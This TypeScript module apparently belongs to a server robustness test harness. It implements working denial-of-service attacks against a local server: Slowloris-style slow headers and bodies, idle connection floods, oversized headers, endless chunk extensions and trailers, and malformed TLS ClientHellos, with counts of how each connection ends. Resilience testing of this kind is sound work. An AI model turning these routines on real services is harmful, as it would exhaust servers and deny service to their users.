// Attacks that cost a client little: connections that say nothing or a byte now and then, heads and chunks without end.
import net from "node:net";

import type { Attack, AttackReport, AttackTarget } from "./attacker.ts";

/** What one connection does, from when it is open; called again each `everyMs`. False: it has nothing more to say. */
type Say = (socket: net.Socket, turn: number) => boolean;

interface Manner {
  readonly connections: number;
  /** At once, so many at a time. */
  readonly everyMs: number;
  readonly say: Say;
  /** Does not read what comes. */
  readonly isDeaf?: boolean;
}

const LARGE = 64 * 2 ** 20;

function sleep(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

/** Opens all connections, lets each speak until the time is up, counts how they end. */
async function run({ port, ms }: AttackTarget, manner: Manner): Promise<AttackReport> {
  const saw: Record<string, number> = {};
  let units = 0;
  let connections = 0;
  const see = (what: string): void => void (saw[what] = (saw[what] ?? 0) + 1);
  const sockets = new Set<net.Socket>();
  const timers: NodeJS.Timeout[] = [];
  for (let i = 0; i < manner.connections; i++) {
    const socket = net.connect({ port, host: "127.0.0.1", noDelay: true });
    sockets.add(socket);
    let how = "FIN";
    socket.on("connect", () => {
      connections++;
      let turn = 0;
      const speak = (): void => {
        units++;
        if (!manner.say(socket, turn++)) clearInterval(timer);
      };
      const timer = setInterval(speak, manner.everyMs);
      timers.push(timer);
      socket.once("close", () => clearInterval(timer));
      speak();
    });
    if (manner.isDeaf === true) socket.pause();
    else
      socket.on("data", (bytes: Buffer) => {
        const status = /^HTTP\/1\.1 (\d{3})/.exec(bytes.toString("latin1"))?.[1];
        if (status !== undefined) see(status);
      });
    socket.on("error", (error: NodeJS.ErrnoException) => (how = error.code === "ECONNREFUSED" ? "REFUSED" : "RST"));
    socket.on("close", () => {
      if (sockets.delete(socket)) see(manner.isDeaf === true && socket.bytesRead < LARGE ? "CUT" : how);
    });
    if (i % 100 === 99) await sleep(10);
  }
  const end = performance.now() + ms;
  while (performance.now() < end && sockets.size > 0) await sleep(20);
  for (const timer of timers) clearInterval(timer);
  // Who does not read sees only now how it ended.
  if (manner.isDeaf === true) {
    for (const socket of sockets) socket.resume();
    await sleep(500);
  }
  const bytes = [...sockets].reduce((sum, socket) => sum + socket.bytesWritten, 0);
  for (const socket of sockets) {
    see("STAYED OPEN");
    sockets.delete(socket);
    socket.destroy();
  }
  return { units, connections, bytes, saw };
}

const HEAD = "GET /slow HTTP/1.1\r\nHost: a\r\n";

/** Slowloris: a header line now and then, and never the empty one. */
export const slowHeads: Attack = (target) =>
  run(target, {
    connections: 300,
    everyMs: 100,
    say: (socket, turn) => socket.write(turn === 0 ? HEAD : `X-${turn}: y\r\n`),
  });

/** A byte of the request line now and then. */
export const slowLines: Attack = (target) =>
  run(target, { connections: 300, everyMs: 50, say: (socket, turn) => socket.write(HEAD[turn % HEAD.length] ?? "G") });

/** A head with a length, and a byte of the body now and then. */
export const slowBodies: Attack = (target) =>
  run(target, {
    connections: 300,
    everyMs: 100,
    say: (socket, turn) =>
      socket.write(turn === 0 ? "POST /slow HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n" : "x"),
  });

/** A head with a length, and nothing. */
export const silentBodies: Attack = (target) =>
  run(target, {
    connections: 300,
    everyMs: 60_000,
    say: (socket) => socket.write("POST /slow HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n"),
  });

/** Asks for much and reads nothing. */
export const deafReaders: Attack = (target) =>
  run(target, {
    connections: 12,
    everyMs: 60_000,
    isDeaf: true,
    say: (socket) => socket.write("GET /large?mib=64 HTTP/1.1\r\nHost: a\r\n\r\n"),
  });

/** Says nothing at all. */
export const idleFlood: Attack = (target) =>
  run(target, { connections: Number(target.args["connections"] ?? 2000), everyMs: 60_000, say: () => true });

const BIG = `X: ${"y".repeat(8000)}\r\n`.repeat(16);

/** Heads far above the limit, as fast as they are taken, each on a connection of its own. */
export const largeHeads: Attack = (target) =>
  run(target, { connections: 200, everyMs: 60_000, say: (socket) => socket.write(HEAD + BIG) });

/** Many small fields. */
export const manyFields: Attack = (target) =>
  run(target, { connections: 200, everyMs: 60_000, say: (socket) => socket.write(HEAD + "A: b\r\n".repeat(5000)) });

const CHUNKED = "POST /slow HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";

/** Chunks of one byte, each with an extension. */
export const chunkExtensions: Attack = (target) =>
  run(target, {
    connections: 50,
    everyMs: 5,
    say: (socket, turn) => socket.write(turn === 0 ? CHUNKED : `1;${"e".repeat(500)}\r\nx\r\n`),
  });

/** Trailers without end. */
export const endlessTrailers: Attack = (target) =>
  run(target, {
    connections: 50,
    everyMs: 5,
    say: (socket, turn) => socket.write(turn === 0 ? `${CHUNKED}0\r\n` : `X-Trailer: ${"y".repeat(500)}\r\n`),
  });

/** Bytes that are nothing. */
export const garbage: Attack = (target) =>
  run(target, {
    connections: 300,
    everyMs: 50,
    say: (socket, turn) => socket.write(Buffer.alloc(64, turn * 37 + 129)),
  });

const HELLO = Buffer.from("16030100c8010000c40303", "hex");

/** The beginning of a ClientHello, then a byte now and then. */
export const slowHellos: Attack = (target) =>
  run(target, {
    connections: 300,
    everyMs: 100,
    say: (socket, turn) => socket.write(turn === 0 ? HELLO : Buffer.from([0x42])),
  });

/** A ClientHello that announces more than anybody sends, and sends it. */
export const hugeHellos: Attack = (target) =>
  run(target, {
    connections: 100,
    everyMs: 10,
    say: (socket, turn) =>
      socket.write(turn === 0 ? Buffer.from("160301400001ffffff0303", "hex") : Buffer.alloc(4096, 0x42)),
  });

/** Plain HTTP to a port that speaks TLS. */
export const plaintext: Attack = (target) =>
  run(target, { connections: 300, everyMs: 100, say: (socket) => socket.write(`${HEAD}\r\n`) });
